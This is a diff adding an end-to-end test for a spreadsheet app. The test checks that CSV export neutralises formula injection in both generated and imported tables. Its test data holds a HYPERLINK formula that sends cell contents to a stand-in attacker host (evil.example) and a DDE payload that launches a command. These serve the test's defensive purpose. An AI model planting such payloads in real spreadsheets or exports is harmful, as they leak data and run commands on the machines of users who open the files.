@@ -169,3 +169,36 @@ test("CSV: export downloads the grid; a tricky file imports (quotes, commas, lin
   await expect(toasts(page).getByText(/fake\.csv is not a CSV file/)).toBeVisible();
   await expect(cell(page, "A2")).toHaveText('Ada "the first"');
 });
+
+test("CSV: the export neutralises formulas from a model's table or an imported file (a quote in front); numbers stay numbers", async ({
+  page,
+  provider,
+}) => {
+  await openApp(page, "logic-sheet", "LogicSheet");
+  await page.getByLabel("Title", { exact: true }).fill("Report");
+  const exported = async () => {
+    const csv = await download(page, () => page.getByRole("button", { name: "Export CSV" }).click());
+    return new TextDecoder().decode(csv.bytes).split("\r\n");
+  };
+
+  const table = ["Link,Delta,Total", '"=HYPERLINK(""http://evil.example/?""&A2,""Open"")",-3,@SUM(1+1)'];
+  provider.script({ kind: "text", chunks: ["```csv\n", table.join("\n"), "\n```"] });
+  await page.getByLabel("Describe a table").fill("links");
+  await page.getByRole("button", { name: "Generate" }).click();
+  await expect(toasts(page).getByText("Table Generated")).toBeVisible();
+  expect((await exported()).slice(0, 2)).toEqual([
+    "Link,Delta,Total,,,",
+    `"'=HYPERLINK(""http://evil.example/?""&A2,""Open"")",-3,"'@SUM(1+1)",,,`,
+  ]);
+
+  const file = ["Cmd,Gain", "=cmd|' /C calc'!A0,+1.5", '"\t=1+1",-2+3'].join("\r\n");
+  await page
+    .getByLabel("CSV file to import")
+    .setInputFiles({ name: "attack.csv", mimeType: "text/csv", buffer: Buffer.from(file) });
+  await expect(cell(page, "B2")).toHaveText("+1.5");
+  expect((await exported()).slice(0, 3)).toEqual([
+    "Cmd,Gain,,,,",
+    `"'=cmd|' /C calc'!A0",+1.5,,,,`,
+    `"'\t=1+1","'-2+3",,,,`,
+  ]);
+});
